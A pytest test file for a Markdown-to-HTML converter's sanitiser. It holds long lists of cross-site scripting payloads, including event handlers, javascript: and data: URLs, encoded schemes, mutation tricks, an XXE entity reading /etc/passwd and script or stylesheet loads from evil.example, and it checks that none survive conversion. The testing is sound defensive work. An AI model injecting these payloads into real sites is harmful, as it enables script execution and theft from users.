"""Nothing an author writes becomes script: payloads in every place a text can have them."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from lxml import html as lxml_html

from coldpress.markdown import convert
from coldpress.markdown.allowed import EVERYWHERE, OF_TAG, TAGS
from coldpress.markdown.safety import clean, scheme_of
from coldpress.model import Call, Converted, Piece
from coldpress.problems import Problem
from tests.texts import KNOWN, drawn, problems, source

TAG_PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)//",
    "<img src='x' oNeRRoR='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'></math>",
    "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>--></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select onfocus=alert(1) autofocus></select>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p onclick=alert(1)>x</p>",
    '<b onmouseover="alert(1)">x</b>',
    "<b/onmouseover=alert(1)>x</b>",
    "<div id=x tabindex=1 onfocus=alert(1)></div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![if gte IE 9]><script>alert(1)</script><![endif]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<?php alert(1) ?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "</p><script>alert(1)</script><p>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<custom-tag onclick=alert(1)>x</custom-tag>",
    "<img srcset='x' src=knee.jpg alt=x onload=alert(1)>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<SCRIPT>alert(String.fromCharCode(88))</SCRIPT>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<b _at=x onclick=alert(1)>x</b>",
    "<keygen autofocus onfocus=alert(1)>",
)
URL_PAYLOADS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#x73;cript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "java\\script:alert(1)",
    "<javascript:alert(1)>",
    "<java\tscript:alert(1)>",
    "<\x01javascript:alert(1)>",
    "&#1;javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "DATA:text/html;base64,PHNjcmlwdD4=",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:https://example.org/x",
    "file:///etc/passwd",
    "term:javascript:alert(1)",
    'x" onmouseover="alert(1)',
    "x' onmouseover='alert(1)",
    'x"><script>alert(1)</script>',
    "//evil.example/x",
    "\u200bjavascript:alert(1)",
    "javas\u00adcript:alert(1)",
)
CONTEXTS = {
    "body": "{}\n",
    "words": "before {} after\n",
    "heading": "## Words {}\n",
    "list": "- item {}\n- {}\n",
    "quotation": "> {}\n",
    "table": "| a |\n|---|\n| {} |\n",
    "footnote": "x[^1]\n\n[^1]: {}\n",
    "definition": "Term\n:   {}\n",
    "abbreviation": "The ABC\n\n*[ABC]: {}\n",
    "link words": "[{}](muscle-pain.md)\n",
    "link title": '[x](muscle-pain.md "{}")\n',
    "alt": "![{}](knee.jpg)\n",
    "caption": '![x](knee.jpg "{}")\n',
    "emphasis": "**{}** *{}*\n",
    "block": '::: tip "T"\n{}\n:::\n',
    "block title": '::: tip "{}"\nx\n:::\n',
    "term": "[{}](term:sham)\n",
    "attribute list": '**x**{{: {} }}\n\ny\n{{: title="{}" }}\n',
    "raw block": "<div>\n{}\n</div>\n",
    "code": "`{}`\n\n```\n{}\n```\n",
}
URL_CONTEXTS = {
    "link": "[x]({})\n",
    "image": "![x]({})\n",
    "by name": "[x][1]\n\n[1]: {}\n",
    "autolink": "<{}>\n",
    "raw": '<a href="{}">x</a> <img alt="x" src="{}">\n',
    "footnote": "x[^1]\n\n[^1]: [y]({})\n",
    "table": "| a |\n|---|\n| [x]({}) |\n",
    "attribute list": "[x](muscle-pain.md){{: href={} }}\n",
    "figure": '::: figure {} "x"\n:::\n',
}


class Reader(HTMLParser):
    """Collects what a browser would act upon."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in EVERYWHERE | OF_TAG.get(tag, frozenset()) | {"rel"}:
                self.found.append(f"{tag} {name}")
            if name in ("href", "src") and scheme_of(value or "") not in (
                *("", "http", "https", "mailto", "tel", "sms"),
            ):
                self.found.append(f"{name}={value}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}")


def html_of(pieces: tuple[Piece, ...]) -> str:
    """Only the HTML; arguments of calls are plain text, templates escape them."""
    return "".join(
        html_of(piece.body) if isinstance(piece, Call) else str(piece) for piece in pieces
    )


def survivors(outcome: tuple[Converted | None, tuple[Problem, ...]]) -> list[str]:
    """What is left that could do harm. A text that was refused as a whole has nothing left."""
    converted, found = outcome
    if converted is None:
        return [] if "hidden-character" in {p.rule for p in found} else ["refused for nothing"]
    runs = [section.body for section in converted.sections]
    html = "".join(html_of(run) for run in (*runs, *converted.key_points, converted.summary))
    reader = Reader()
    reader.feed(html)
    reader.close()
    tree = lxml_html.fragment_fromstring(html, create_parent="main")
    for element in tree.iterdescendants():
        if element.tag not in TAGS:
            reader.found.append(f"lxml: {element.tag!r}")
        reader.found += [
            f"lxml: {n!r}" for n in element.attrib if str(n).startswith(("on", "style"))
        ]
    if re.search("[\ue000-\uf8ff]|_at=.?[\ue002]", html + repr(converted)):
        reader.found.append("a mark")
    return reader.found


def filled(context: str, payload: str) -> str:
    return context.replace("{}", payload).replace("{{", "{").replace("}}", "}")


@pytest.mark.parametrize("context", CONTEXTS)
def test_no_payload_survives(context: str) -> None:
    for payload in TAG_PAYLOADS:
        assert survivors(convert(source(filled(CONTEXTS[context], payload)), KNOWN)) == [], payload


@pytest.mark.parametrize("context", URL_CONTEXTS)
def test_no_address_runs_anything(context: str) -> None:
    for payload in URL_PAYLOADS:
        text = filled(URL_CONTEXTS[context], payload)
        assert survivors(convert(source(text), KNOWN)) == [], payload


@pytest.mark.parametrize("payload", [*TAG_PAYLOADS, "[x](javascript:alert(1))"])
def test_front_matter_is_no_way_in(payload: str) -> None:
    line = " ".join(payload.split())
    assert survivors(convert(source("Text.", summary=line, key_points=(line,)), KNOWN)) == []


def test_the_corpus_can_fail() -> None:
    """The reader does see what the guard would let through."""
    reader = Reader()
    reader.feed('<p onclick="x"><script></script><a href="javascript:x">')
    assert reader.found == ["p onclick", "<script>", "href=javascript:x"]


@pytest.mark.parametrize("payload", TAG_PAYLOADS[:36])
def test_what_is_taken_out_is_reported(payload: str) -> None:
    """Never silently: a payload is an error, or is shown as the letters it is made of."""
    text = f"before {payload} after"
    converted, found = convert(source(text), KNOWN)
    assert converted is not None
    shown = "".join(html_of(section.body) for section in converted.sections)
    assert {"unsafe-html", "unsafe-link", "missing-alt"} & {p.rule for p in found} or (
        "&lt;" in shown and "alert" in shown
    )


@pytest.mark.parametrize("payload", URL_PAYLOADS[:14])
def test_an_address_that_runs_something_is_an_error(payload: str) -> None:
    assert {p.rule for p in problems(f"[x]({payload})")} & {
        *("unsafe-link", "broken-link", "hidden-character"),
    }


def test_links_to_other_sites_tell_them_little() -> None:
    converted, _ = convert(source('[x](https://example.org/){: rel="opener" }'), KNOWN)
    assert converted is not None
    assert 'rel="noopener"' in drawn(converted.sections[0].body)


def test_the_guard_alone_is_enough() -> None:
    """Even if Markdown and all that comes before it were wrong."""
    for payload in TAG_PAYLOADS:
        reader = Reader()
        reader.feed(clean(payload))
        assert set(reader.found) <= {"b _at"}, payload


@pytest.mark.parametrize(
    "written", ["&#xE000;5&#xE001;", "&#57344;", "&#x202e;x", "&#1;", "\ue0025"]
)
def test_our_own_signs_cannot_be_smuggled_in(written: str) -> None:
    assert [p.rule for p in problems(f"a {written} b")][:1] == ["hidden-character"]
